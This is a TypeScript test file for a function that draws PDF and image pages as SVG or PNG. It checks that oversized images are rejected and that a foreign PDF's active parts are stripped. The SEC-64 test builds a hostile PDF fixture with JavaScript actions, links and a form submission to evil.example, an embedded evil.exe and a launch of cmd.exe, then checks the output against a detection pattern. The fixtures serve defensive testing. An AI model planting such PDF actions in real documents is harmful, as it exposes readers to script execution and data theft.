import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { NodeCompiler } from '@myriaddreamin/typst-ts-node-compiler';
import { describe, expect, it } from 'vitest';
import { pdfOf } from '../../tests/support/small-pdf.ts';
import { encodePng } from '../map/png.ts';
import { pageImages } from './page-images.ts';

const twoPages = (): Uint8Array =>
  NodeCompiler.create({ workspace: join(tmpdir(), 'shekara-pages-test') }).pdf({
    mainFileContent: '#set page(paper: "a4")\n= Жер-кадастрлық жоспар\n#pagebreak()\nБет 2',
  });

describe('pageImages', () => {
  it('A5.3 draws every page of a PDF as an SVG of the same paper size', async () => {
    const pages = await pageImages(twoPages(), 'application/pdf');
    expect(pages.map((page) => page.mediaType)).toEqual(['image/svg+xml', 'image/svg+xml']);
    const first = Buffer.from(pages[0]?.bytes ?? []).toString('utf8');
    expect(first).toMatch(/viewBox="0 0 595\.2\d* 841\.8\d*"/);
    expect(first).not.toContain('<script');
  });

  it('says that a damaged PDF cannot be read', async () => {
    const damaged = Buffer.from('%PDF-1.7\nnot a document at all');
    await expect(pageImages(damaged, 'application/pdf')).rejects.toMatchObject({ code: 'DOCUMENT_UNREADABLE' });
  });

  it('passes a picture through and shows nothing of a TIFF', async () => {
    const picture = encodePng(new Uint8Array(4), 1, 1);
    expect(await pageImages(picture, 'image/png')).toEqual([{ mediaType: 'image/png', bytes: picture }]);
    expect(await pageImages(picture, 'image/tiff')).toEqual([]);
  });

  it('SEC-63 gives no window a small file that unpacks to gigabytes, nor one that is no picture', async () => {
    const png = Buffer.from(encodePng(new Uint8Array(4), 1, 1));
    png.writeUInt32BE(40_000, 16);
    png.writeUInt32BE(40_000, 20);
    expect(await pageImages(png, 'image/png')).toEqual([]);
    // A frame of 65 500 × 65 500
    const jpeg = Buffer.from('ffd8ffc0001108ffdcffdc03', 'hex');
    expect(await pageImages(jpeg, 'image/jpeg')).toEqual([]);
    expect(await pageImages(png, 'image/jpeg')).toEqual([]);
    expect(await pageImages(Uint8Array.of(1, 2, 3), 'image/png')).toEqual([]);
  });

  it('SEC-64 leaves script, links, forms and files of a foreign PDF behind', async () => {
    const words = 'BT /F1 20 Tf 10 50 Td (PLAN) Tj ET';
    const hostile = pdfOf([
      '(nothing)',
      `<< /Type /Catalog /Pages 3 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>
        /AA << /WC << /S /URI /URI (https://evil.example/close) >> >> /AcroForm << /Fields [7 0 R] >>
        /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(2\\)) >>] >>
                  /EmbeddedFiles << /Names [(evil.exe) << /Type /Filespec /F (evil.exe) /EF << /F 8 0 R >> >>] >> >> >>`,
      '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 3 0 R /MediaBox [0 0 200 100] /Contents 5 0 R /Annots [6 0 R 7 0 R]
        /AA << /O << /S /Launch /F (cmd.exe) >> >> /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`,
      `<< /Length ${words.length} >>\nstream\n${words}\nendstream`,
      '<< /Type /Annot /Subtype /Link /Rect [0 0 200 100] /A << /S /URI /URI (https://evil.example/link) >> >>',
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (pin) /V (secret) /Rect [0 0 100 20]
        /A << /S /SubmitForm /F (https://evil.example/form) >> >>`,
      '<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ!!\nendstream',
    ]);
    const [page] = await pageImages(hostile, 'application/pdf');
    const svg = Buffer.from(page?.bytes ?? []).toString('utf8');
    // The page is drawn
    expect(svg).toMatch(/viewBox="0 0 200(?:\.\d+)? 100/u);
    expect(svg).toMatch(/<(?:path|use|image)\b/u);
    expect(svg).not.toMatch(
      /<script|<a\b|<foreignObject|<iframe|<form|<input|\son\w+=|javascript:|evil|secret|MZ!!|alert/iu,
    );
    // What an image may point at lies in itself
    for (const [, target = ''] of svg.matchAll(/href="([^"]*)"/gu)) expect(target).toMatch(/^(?:#|data:image\/)/u);
  });
});
